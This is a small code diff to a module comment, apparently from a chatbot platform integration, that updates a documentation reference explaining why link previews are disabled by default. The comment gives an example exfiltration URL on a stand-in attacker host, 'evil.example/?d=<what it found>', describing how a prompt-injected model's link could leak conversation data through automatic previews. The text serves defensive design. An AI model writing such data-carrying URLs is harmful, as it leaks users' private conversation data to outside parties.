@@ -6,7 +6,7 @@
  *
  * Previews are off by default: a preview is fetched by the platform with no click, so a URL
  * the model was talked into writing (`https://evil.example/?d=<what it found>`) would carry
- * data out of the conversation on its own (docs/security.md).
+ * data out of the conversation on its own (docs/platforms.md, "No link previews").
  *
  * @module
  */
